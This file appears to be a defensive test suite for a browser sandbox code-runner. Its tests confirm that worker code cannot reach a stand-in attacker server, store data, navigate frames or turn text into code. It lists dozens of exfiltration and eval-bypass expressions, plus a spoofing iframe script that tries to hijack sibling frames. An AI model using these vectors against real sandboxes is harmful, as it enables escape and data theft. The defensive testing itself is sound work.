/**
 * Ways out of the worker, tried twice: by a program, for which the doors are gone, and by a worker
 * without our harness, for which the policies and the opaque origin must be enough.
 */
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { startAttacker, type Attacker } from './attacker.ts';
import { inBareWorker, openSite, run, type TestSite } from './site.ts';

let site: TestSite;
let page: Page;
let attacker: Attacker;
const complaints: string[] = [];

beforeAll(async () => {
  attacker = await startAttacker();
  site = await openSite();
  page = await site.open();
  page.on('pageerror', (error) => complaints.push(String(error)));
}, 60_000);
afterAll(async () => {
  await site.close();
  await attacker.close();
});

/** Expressions that open a door; `url` is the attacker's. */
const WAYS = [
  `fetch(url, { mode: 'no-cors', keepalive: true })`,
  `new XMLHttpRequest().open('GET', url, false)`,
  `new WebSocket(url.replace('http', 'ws'))`,
  `new WebSocketStream(url.replace('http', 'ws')).opened`,
  `new WebTransport(url.replace('http', 'https')).ready`,
  `new EventSource(url)`,
  `importScripts(url)`,
  `new Worker(url)`,
  `new SharedWorker(url)`,
  `navigator.sendBeacon(url)`,
  `new FontFace('x', 'url(' + url + ')').load()`,
  `new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(url).host }] }).createOffer()`,
  `navigator.serviceWorker.register(url)`,
  `caches.open('x').then((cache) => cache.add(url))`,
  `fetchLater(url)`,
  `new Image().src = url`,
  `location.href = url`,
  `location.assign(url)`,
  `open(url)`,
  `new Notification('x', { icon: url })`,
  `new Promise((resolve, reject) => { const request = indexedDB.open('stolen'); request.onsuccess = resolve; request.onerror = reject; })`,
  `caches.open('stolen')`,
  `navigator.storage.getDirectory()`,
  `navigator.locks.request('stolen', () => 1)`,
  `navigator.storageBuckets.open('stolen')`,
  `cookieStore.set('stolen', '1')`,
  `localStorage.setItem('stolen', '1')`,
  `document.cookie = 'stolen=1'`,
  `webkitRequestFileSystemSync(0, 1)`,
  `navigator.credentials.get()`,
  `navigator.clipboard.readText()`,
  `parent.location.href = url`,
  `top.location.href = url`,
  `window.opener.location = url`,
  `document.body.append('stolen')`,
  `history.back()`,
  `frames[0].postMessage('x', '*')`,
  `new BroadcastChannel('fermata').postMessage('stolen')`,
];

/** What a bare worker may do to itself and to the frame, and a program may not. */
const OWN = [`self.close()`, `postMessage({ type: 'ended', end: { outcome: 'finished' } })`];

/** Each way throws or rejects; the program says which did not. */
const asProgram = (url: string, ways: readonly string[]): string => `
  const url = ${JSON.stringify(url)};
  const ways: [string, () => unknown][] = [${ways
    .map((way) => `[${JSON.stringify(way)}, () => ${TEXTS.includes(way) ? way : asMembers(way)}]`)
    .join(',\n')}];
  for (const [name, way] of ways) {
    try { await way(); console.log(name); } catch {}
  }
  console.log('tried ' + ways.length);`;

/** Globals that TypeScript and the runtime may not know by name. */
const asMembers = (way: string): string =>
  way.replace(/^(new )?(?!new\b)([A-Za-z]+)/, (whole, maker: string | undefined, name: string) =>
    name === 'new' ? whole : `${maker ?? ''}(globalThis as any).${name}`,
  );

/** The same in a bare worker; what is made and fails only later is waited for. */
const asWorker = (url: string, ways: readonly string[]): string => `
  const url = ${JSON.stringify(url)};
  const ways = { ${ways.map((way) => `${JSON.stringify(way)}: () => (${way})`).join(',\n')} };
  (async () => {
    const opened = [];
    for (const [name, way] of Object.entries(ways)) {
      try {
        const made = await Promise.race([way(), new Promise((_, reject) => setTimeout(reject, 1000))]);
        opened.push(name + ' gave ' + typeof made);
      } catch {}
    }
    setTimeout(() => postMessage({ type: 'told', opened }), 300);
  })();`;

/** Ways to code from text, beyond the plain ones in `closed.test.ts`. */
const TEXTS = [
  `(0, eval)('1')`,
  `globalThis['ev' + 'al']('1')`,
  `[].constructor.constructor('return 1')()`,
  `Function({ toString: () => 'return 1' } as any)()`,
  `Reflect.construct(Function, ['return 1'], class {})()`,
  `Reflect.construct((async () => {}).constructor as any, ['return 1'])()`,
  `Object.getPrototypeOf(Object.getPrototypeOf(async function* () {})).constructor('return 1')()`,
  `new Proxy(Function, {})('return 1')()`,
  `setTimeout('1' as any, 0)`,
  `setInterval({ toString: () => '1' } as any, 1)`,
  `(globalThis as any).trustedTypes.createPolicy('fermata', { createScript: (text: string) => text })`,
  `(globalThis as any).WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`,
];

describe('out of a worker', () => {
  it('leads no way for a program', async () => {
    const ways = [...WAYS, ...OWN];
    const address = page.url();
    const { outcome, printed } = await run(page, asProgram(`${attacker.url}stolen`, ways));
    expect({ outcome, printed }).toEqual({
      outcome: 'finished',
      printed: [`tried ${ways.length}`],
    });
    expect(page.url()).toBe(address);
    expect(site.browser.contexts().flatMap((context) => context.pages())).toEqual([page]);
  });

  it('leads no text that would become code', async () => {
    const { printed } = await run(page, asProgram('', TEXTS));
    expect(printed).toEqual([`tried ${TEXTS.length}`]);
  });

  it.each(['runner.html', 'runner-strict.html'])(
    'leads no way for a worker with all of its doors, either: %s',
    async (frame) => {
      await page.evaluate(() => {
        const channel = new BroadcastChannel('fermata');
        channel.addEventListener('message', () => document.body.append('stolen'));
      });
      const address = page.url();
      const told = await inBareWorker(
        page,
        `${site.server.url}${frame}`,
        asWorker(`${attacker.url}stolen`, WAYS),
      );
      const { opened } = (told as { message: { opened: string[] } }).message;
      // Five can be made. No byte leaves of them, and the channel ends at the opaque origin.
      expect(opened.map((name) => name.split(' gave ')[0])).toEqual([
        `new XMLHttpRequest().open('GET', url, false)`,
        `new WebSocket(url.replace('http', 'ws'))`,
        `new EventSource(url)`,
        `new Notification('x', { icon: url })`,
        `new BroadcastChannel('fermata').postMessage('stolen')`,
      ]);
      expect(page.url()).toBe(address);
      expect((await page.textContent('body'))?.trim()).toBe('');
    },
  );

  it('and the stranger has heard nothing, though it would have', async () => {
    expect(attacker.hits).toEqual([]);
    await fetch(`${attacker.url}control`);
    expect(attacker.hits).toEqual(['CONNECTION', 'GET /control']);
  });

  it('nothing is left in this browser', async () => {
    const kept = await page.evaluate(async () => {
      const countFiles = async (): Promise<number> => {
        let count = 0;
        for await (const _ of (await navigator.storage.getDirectory()).keys()) count += 1;
        return count;
      };
      return {
        databases: await indexedDB.databases(),
        caches: await caches.keys(),
        local: Object.keys(localStorage),
        session: Object.keys(sessionStorage),
        cookies: document.cookie,
        files: await countFiles(),
        workers: (await navigator.serviceWorker.getRegistrations()).length,
      };
    });
    expect(kept).toEqual({
      databases: [],
      caches: [],
      local: [],
      session: [],
      cookies: '',
      files: 0,
      workers: 0,
    });
  });
});

/** A sandboxed frame beside ours, of the same opaque kind, that speaks to everybody it sees. */
const LIAR = `<!doctype html><script>
  let heard = 0;
  const lies = [
    'fermata: the frame is ready',
    { type: 'pong', count: 1e9 },
    { type: 'done' },
    { type: 'worker', message: { type: 'ended', runId: '', end: { outcome: 'threw', preview: 0 } }, behind: 0 },
  ];
  setInterval(() => {
    for (const lie of lies) {
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = () => { heard += 1; };
      parent.postMessage(lie, '*', [port2]);
    }
    for (let index = 0; index < parent.length; index += 1) {
      if (parent[index] === self) continue;
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = () => { heard += 1; };
      parent[index].postMessage('fermata: connect', '*', [port2]);
      port1.postMessage({ type: 'ping', count: 1 });
      try { parent[index].document.body.textContent = 'stolen'; heard += 1; } catch {}
      try { parent[index].location = 'about:blank#stolen'; } catch {}
    }
    try { top.location = 'about:blank#stolen'; } catch {}
    parent.postMessage({ liar: true, heard }, '*');
  }, 5);
</script>`;

describe('a lying frame beside ours', () => {
  it('is neither heard nor answered', async () => {
    const source = `await new Promise((resolve) => setTimeout(resolve, 50));\nconsole.log('mine');`;
    const { eventTexts: quiet } = await run(page, { source, withEvents: true });
    await writeFile(join(site.directory, 'liar.html'), LIAR);
    await page.evaluate(async () => {
      const liar = document.createElement('iframe');
      liar.id = 'liar';
      liar.setAttribute('sandbox', 'allow-scripts');
      liar.src = 'liar.html';
      document.body.append(liar);
      await new Promise((resolve) => {
        liar.addEventListener('load', resolve);
      });
      // Both frames of the pool are made anew, under its eyes.
      globalThis.fermata.renew();
    });
    const address = page.url();
    for (let round = 0; round < 3; round += 1) {
      const { eventTexts } = await run(page, { source, withEvents: true });
      expect(eventTexts).toEqual(quiet);
    }
    const heard = await page.evaluate(
      () =>
        new Promise((resolve) => {
          addEventListener('message', ({ data }) => {
            if (data?.liar === true) resolve(data.heard);
          });
        }),
    );
    expect(heard).toBe(0);
    expect(page.url()).toBe(address);
    await page.evaluate(() => document.querySelector('#liar')?.remove());
  });
});

it('the page has not complained once', () => {
  expect(complaints).toEqual([]);
});
